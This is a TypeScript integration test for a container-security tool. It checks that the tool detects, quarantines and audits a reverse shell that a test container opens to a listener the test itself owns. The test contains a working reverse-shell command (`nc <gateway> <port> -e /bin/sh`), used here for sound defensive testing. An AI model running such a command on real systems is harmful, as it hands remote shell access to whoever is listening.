/**
 * The runtime half of the loop through the real `containment up` process: real eBPF (bpftrace, as
 * root), real Podman and nftables. A container started with this run's label opens a reverse shell
 * (`nc -e /bin/sh`) to a listener this test owns on the host side of the container's bridge. The
 * agent's sensor sees it, the scanner stores one `reverse_shell` detection and delivers its event,
 * the security-notices endpoint fires only the runtime-detections trigger, and the reference runtime
 * policy (runtime-response) quarantines the container.
 * - `--enforce`: the Quarantine succeeds, the nftables table is in the container's network
 *   namespace and the open reverse-shell connection is cut; the audit trail lists
 *   detection → event → activation → action, complete.
 * - monitor (the default): the same single detection and activation, the Quarantine is only a dry
 *   run (no table, the shell still answers), and the decision line says Quarantine dry-run.
 * In both, the scan of the container (a scan event) never activates the runtime policy.
 * `up --baseline-learning` reaches the agent: the monitor run learns a baseline of the container's
 * image, which the scanner lists; the enforce run, without the option, keeps none.
 */
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import type { ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import type { AddressInfo, Server, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { TestContext } from 'node:test';
import { reachableFromNetns } from '../../src/enforcement/podman-fixture.test-helper.js';
import type { SecurityAction } from '../../src/enforcement/security-action.js';
import { findEngineSocket } from '../../src/engine/socket.js';
import { QUARANTINE_TABLE } from '../../src/linux/netns-quarantine.js';
import type { StoredBaseline } from '../../src/runtime/contracts.js';
import type { StoredDetection } from '../../src/storage/scanner/detections.js';
import { RuntimeFixture, ebpfMissing } from '../../src/runtime/runtime-fixture.test-helper.js';
import type { Ctr } from '../../src/runtime/runtime-fixture.test-helper.js';
import { freePortRun } from '../../src/testing/ports.js';
import { repoRoot, requireOrSkip } from '../../src/testing/shared-data.js';
import { hasCommand } from '../../src/testing/tools.js';
import type { AuditLink } from '../../src/audit/trail.js';
import { poll, waitForValue } from '../../src/testing/wait.js';

const WITHIN_MS = 30_000;
/** Starting includes compiling and attaching the probes: seconds, more under load. */
const START_MS = 180_000;

function whyUnavailable(): string | undefined {
  const ebpf = ebpfMissing();
  if (ebpf !== undefined) return `${ebpf} (needed for the runtime loop through up)`;
  const missing = [
    ...['nft', 'nsenter', 'tar'].filter((tool) => !hasCommand(tool)),
    ...(findEngineSocket(undefined, process.env) === undefined ? ['a podman API socket'] : []),
  ];
  return missing.length > 0 ? `${missing.join(', ')} (needed for the runtime loop through up)` : undefined;
}

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

/** A running `containment up` and what its banner said. */
class Up {
  stdout = '';
  stderr = '';
  adminToken = '';
  actionApi = '';
  scannerApi = '';
  functionsApi = '';
  functionsAuth = '';
  private child: ChildProcess | undefined;

  async start(dataDir: string, label: string, enforce: boolean, extra: string[] = []): Promise<void> {
    const port = await freePortRun();
    const args = [
      join(repoRoot, 'bin', 'containment.js'),
      'up',
      '--data-dir',
      dataDir,
      '--port',
      String(port),
    ];
    // Long: scans come from container starts only, never from the clock during the test.
    args.push('--rescan-interval', '10m', '--label', label, '--runtime-detection', 'on');
    if (enforce) args.push('--enforce');
    args.push(...extra);
    const child = spawn(process.execPath, args, {
      stdio: ['ignore', 'pipe', 'pipe'],
      env: { ...process.env, CONTAINMENT_LOG_LEVEL: 'warn' },
    });
    this.child = child;
    child.stderr.on('data', (d: Buffer) => (this.stderr += d.toString()));
    await new Promise<void>((resolve, reject) => {
      const timer = setTimeout(() => reject(new Error(`up did not start: ${this.stderr}`)), START_MS);
      child.stdout.on('data', (d: Buffer) => {
        this.stdout += d.toString();
        if (this.stdout.includes('ready')) {
          clearTimeout(timer);
          resolve();
        }
      });
      child.on('exit', (code) => reject(new Error(`up exited with ${code}: ${this.stderr}`)));
    });
    this.adminToken = /admin token:\s+(\S+)/.exec(this.stdout)?.[1] ?? '';
    this.actionApi = /action API:\s+(http\S+)/.exec(this.stdout)?.[1] ?? '';
    this.scannerApi = /scanner API:\s+(http\S+)/.exec(this.stdout)?.[1] ?? '';
    this.functionsApi = /functions API:\s+(http\S+)/.exec(this.stdout)?.[1] ?? '';
    this.functionsAuth = /auth (\S+:\S+)\)/.exec(this.stdout)?.[1] ?? '';
    assert.match(this.stdout, enforce ? /mode:\s+ENFORCE/ : /mode:\s+MONITOR/);
    assert.match(this.adminToken, /^ctm_/);
  }

  async stop(): Promise<void> {
    const child = this.child;
    if (child === undefined || child.exitCode !== null) return;
    const exited = new Promise<number | null>((resolve) => child.on('exit', resolve));
    child.kill('SIGTERM');
    assert.equal(await exited, 0, `up stopped badly: ${this.stderr}`);
  }

  private async get<T>(base: string, path: string, auth?: string): Promise<T> {
    const res = await fetch(`${base}${path}`, {
      headers: { authorization: auth ?? `Bearer ${this.adminToken}` },
    });
    assert.equal(res.status, 200, `${path}: ${res.status} ${await res.clone().text()}`);
    return (await res.json()) as T;
  }

  async actions(pod: string): Promise<SecurityAction[]> {
    const { actions } = await this.get<{ actions: SecurityAction[] }>(
      this.actionApi,
      '/v1/actions?namespace=local',
    );
    return actions.filter((a) => a.spec.target.pod === pod);
  }

  async baselines(): Promise<StoredBaseline[]> {
    return (await this.get<{ baselines: StoredBaseline[] }>(this.scannerApi, '/v1/baselines?cluster=local'))
      .baselines;
  }

  async detections(pod: string): Promise<StoredDetection[]> {
    const q = new URLSearchParams({ cluster: 'local', namespace: 'local', pod });
    return (await this.get<{ detections: StoredDetection[] }>(this.scannerApi, `/v1/detections?${q}`))
      .detections;
  }

  async scanned(pod: string): Promise<boolean> {
    const q = new URLSearchParams({ cluster: 'local', namespace: 'local', pod });
    const res = await fetch(`${this.scannerApi}/v1/findings?${q}`, {
      headers: { authorization: `Bearer ${this.adminToken}` },
    });
    return res.status === 200;
  }

  async trail(pod: string): Promise<AuditLink[]> {
    return (await this.get<{ trail: AuditLink[] }>(this.actionApi, `/v1/audit?namespace=local&pod=${pod}`))
      .trail;
  }

  /** The activations of one policy (the runtime's activation list, newest first). */
  async activations(name: string): Promise<{ activationId: string; cause?: string }[]> {
    const basic = `Basic ${Buffer.from(this.functionsAuth).toString('base64')}`;
    return this.get(this.functionsApi, `/api/v1/namespaces/local/activations?name=${name}&limit=200`, basic);
  }
}

/** A TCP listener on `address` (the bridge's host side) that keeps what the shell sends. */
class Listener {
  output = '';
  socket: Socket | undefined;
  private readonly server: Server;

  private constructor(server: Server) {
    this.server = server;
  }

  static async on(address: string): Promise<Listener> {
    const server = createServer();
    const listener = new Listener(server);
    server.on('connection', (socket) => {
      listener.socket = socket;
      socket.on('data', (d: Buffer) => (listener.output += d.toString()));
      socket.on('error', () => {});
    });
    await new Promise<void>((r) => server.listen(0, address, r));
    return listener;
  }

  get port(): number {
    return (this.server.address() as AddressInfo).port;
  }

  /** Sends a command to the shell; true when its answer came back within `ms`. */
  async answers(word: string, ms: number): Promise<boolean> {
    this.socket?.write(`echo ${word}\n`);
    return (await poll(() => this.output.includes(word), Boolean, { ms, every: 100 })).ok;
  }

  close(): void {
    this.socket?.destroy();
    this.server.close();
  }
}

function gatewayOf(name: string): string {
  const [info] = JSON.parse(execFileSync('podman', ['inspect', name], { encoding: 'utf8' })) as {
    NetworkSettings: { Networks?: Record<string, { Gateway: string }> };
  }[];
  return Object.values(info?.NetworkSettings.Networks ?? {})[0]?.Gateway ?? '';
}

function quarantineTableIn(pid: number): boolean {
  const tables = execFileSync('nsenter', ['-t', String(pid), '-n', 'nft', 'list', 'tables'], {
    encoding: 'utf8',
  });
  return tables.includes(QUARANTINE_TABLE);
}

const unavailable = whyUnavailable();

describe(
  'containment up: a reverse shell is quarantined by the runtime policy',
  { concurrency: false },
  () => {
    const run = randomBytes(4).toString('hex');
    let fixture: RuntimeFixture | undefined;
    let tmp = '';
    const need = (t: TestContext): boolean =>
      requireOrSkip(t, unavailable === undefined && fixture !== undefined, unavailable ?? 'the fixture');

    before(() => {
      if (unavailable !== undefined) return;
      tmp = mkdtempSync(join(tmpdir(), 'containment-up-runtime-'));
      fixture = RuntimeFixture.create();
    });

    after(() => {
      if (unavailable !== undefined) return;
      fixture?.cleanup();
      if (tmp !== '') rmSync(tmp, { recursive: true, force: true });
    });

    /**
     * Starts up, a labelled container, waits until the agent scanned it, then opens the reverse
     * shell. Returns up (still running), the container, the listener and the detection's action.
     */
    async function reverseShellUnder(
      enforce: boolean,
    ): Promise<{ up: Up; ctr: Ctr; listener: Listener; action: SecurityAction; gateway: string }> {
      const label = `containment-up-runtime=${run}-${enforce ? 'enforce' : 'monitor'}`;
      const up = new Up();
      // Monitor also learns baselines: a long window, so nothing is an anomaly during the test.
      const extra = enforce ? [] : ['--baseline-learning', '10m'];
      await up.start(join(tmp, enforce ? 'enforce' : 'monitor'), label, enforce, extra);
      const ctr = fixture!.run(['--label', label]);
      await waitForValue(
        async () => ((await up.scanned(ctr.name)) ? true : undefined),
        `a scan of ${ctr.name}`,
        WITHIN_MS,
      );
      const gateway = gatewayOf(ctr.name);
      const listener = await Listener.on(gateway);
      fixture!.exec(ctr, ['nc', gateway, String(listener.port), '-e', '/bin/sh'], { detach: true });
      await waitForValue(async () => listener.socket, 'the reverse shell to connect', WITHIN_MS);
      // Under --enforce the quarantine (~150 ms after the connection) may cut the socket before a
      // round trip: there the one reverse_shell detection shows the shell ran on it, and monitor
      // mode shows that it answers.
      if (!enforce)
        assert.equal(
          await listener.answers(`pwned-${run}`, 10_000),
          true,
          'the shell did not run over the socket',
        );
      const action = await waitForValue(
        async () =>
          (await up.actions(ctr.name)).find(
            (a) =>
              a.spec.action === 'Quarantine' &&
              (a.status?.phase === 'Succeeded' || a.status?.phase === 'Failed'),
          ),
        `a finished Quarantine of ${ctr.name}`,
        WITHIN_MS,
      );
      return { up, ctr, listener, action, gateway };
    }

    /**
     * What both modes share: exactly one reverse_shell detection (the connection to a listener off
     * the container is also an `outbound_unexpected`, which the policy only notifies on), one
     * runtime-policy activation per detection, and a complete audit trail.
     */
    async function assertDetectionChain(
      up: Up,
      ctr: Ctr,
      action: SecurityAction,
      listener: { address: string; port: number },
    ): Promise<void> {
      await sleep(1500); // anything else the shell caused has been reported by now
      const all = await up.detections(ctr.name);
      const detections = all.filter((d) => d.ruleId === 'reverse_shell');
      assert.deepEqual(
        detections.map((d) => d.count),
        [1],
        JSON.stringify(all),
      );
      const others = all.filter((d) => d.ruleId !== 'reverse_shell');
      assert.deepEqual(
        others.map((d) => [d.ruleId, d.evidence.address, d.evidence.port]),
        [['outbound_unexpected', listener.address, listener.port]].slice(0, others.length),
        JSON.stringify(all),
      );
      const [detection] = detections;
      assert.equal(detection?.workload.containerId, ctr.id);
      assert.equal(detection?.source, 'ebpf');

      assert.match(action.spec.requestedBy ?? '', /^policy\/runtime-response@[0-9a-f]{32}$/);
      assert.match(action.spec.reason, /^reverse_shell: /);
      assert.equal(action.spec.findingsRef, `detection/${detection?.id}`);
      assert.equal((await up.actions(ctr.name)).length, 1, 'one action for one detection');

      const trail = await waitForValue(
        async () => {
          const t = await up.trail(ctr.name);
          return t.length > 0 && t.every((l) => l.complete) ? t : undefined;
        },
        `a complete audit trail of ${ctr.name}`,
        WITHIN_MS,
      );
      assert.equal(trail.length, 1);
      const [link] = trail;
      assert.ok(link?.activation && link.event && link.detection, JSON.stringify(link));
      assert.deepEqual(link.gaps, []);
      assert.equal(link.action.id, action.metadata.name);
      assert.equal(link.activation.action, 'runtime-response');
      assert.equal(link.activation.status, 'success');
      assert.equal(link.activation.cause, link.event.triggerActivationId);
      assert.equal(link.event.type, 'dev.containment.runtime.detected');
      assert.equal(link.event.detectionId, detection?.id);
      assert.equal(link.detection.id, detection?.id);
      assert.equal(link.detection.ruleId, 'reverse_shell');
      assert.equal(link.scan, undefined);

      // Routing by event type: the container's scan event reached only the scan policy; the runtime
      // policy ran once per detection, and the scan policy never for a detection.
      const runtimeRuns = await up.activations('runtime-response');
      assert.equal(runtimeRuns.length, all.length, JSON.stringify(runtimeRuns));
      assert.ok(runtimeRuns.some((a) => a.activationId === link.activation?.id));
      // The policy's notification about the outbound connection goes to the log, not among the
      // decision lines on stdout.
      assert.doesNotMatch(up.stdout, /policy notification/);
      const scanRuns = await up.activations('quarantine-or-terminate');
      assert.ok(scanRuns.length >= 1, 'the scan policy never ran for the scan');
      assert.ok(!scanRuns.some((a) => a.cause === link.event?.triggerActivationId));
    }

    it('--enforce: the reverse shell is detected once, quarantined (connection cut), and audited', async (t) => {
      if (!need(t)) return;
      const { up, ctr, listener, action, gateway } = await reverseShellUnder(true);
      try {
        assert.equal(action.status?.phase, 'Succeeded', action.status?.message);
        assert.equal(action.spec.dryRun, false);
        assert.equal(quarantineTableIn(ctr.pid), true, 'no quarantine table in the container netns');
        assert.equal(await listener.answers(`after-${run}`, 3000), false, 'the shell still answers');
        assert.equal(await reachableFromNetns(ctr.pid, gateway), false, 'the container still reaches out');
        assert.equal(
          execFileSync('podman', ['inspect', '-f', '{{.State.Running}}', ctr.name], {
            encoding: 'utf8',
          }).trim(),
          'true',
          'quarantine keeps the container running',
        );
        await assertDetectionChain(up, ctr, action, { address: gateway, port: listener.port });
        assert.match(
          up.stdout,
          new RegExp(`local/${ctr.name}  reverse_shell: .*  policy/runtime-response  Quarantine  done`),
        );
        assert.deepEqual(await up.baselines(), [], 'baselines without --baseline-learning');
      } finally {
        listener.close();
        await up.stop();
      }
    });

    it('monitor: the same detection, a dry-run Quarantine only, and the decision line says so', async (t) => {
      if (!need(t)) return;
      const { up, ctr, listener, action, gateway } = await reverseShellUnder(false);
      try {
        assert.equal(action.status?.phase, 'Succeeded', action.status?.message);
        assert.equal(action.spec.dryRun, true);
        assert.match(action.status?.message ?? '', /would /);
        assert.equal(quarantineTableIn(ctr.pid), false, 'monitor mode changed the container netns');
        assert.equal(await listener.answers(`still-${run}`, 10_000), true, 'monitor mode cut the shell');
        await assertDetectionChain(up, ctr, action, { address: gateway, port: listener.port });
        assert.match(
          up.stdout,
          new RegExp(`local/${ctr.name}  reverse_shell: .*  policy/runtime-response  Quarantine  dry-run`),
        );
        // --baseline-learning 10m reached the agent: what the container ran is being learned
        // (pushed to the scanner within the sync's 2 s debounce), the shell's connection included.
        const destination = `${gateway}:${listener.port}`;
        const learned = await waitForValue(
          async () =>
            (await up.baselines()).find((b) => b.state === 'learning' && b.outbound.includes(destination)),
          `a learning baseline with ${destination}`,
          WITHIN_MS,
        );
        assert.ok(learned.executables.includes('/bin/busybox'), JSON.stringify(learned));
      } finally {
        listener.close();
        await up.stop();
      }
    });
  },
);
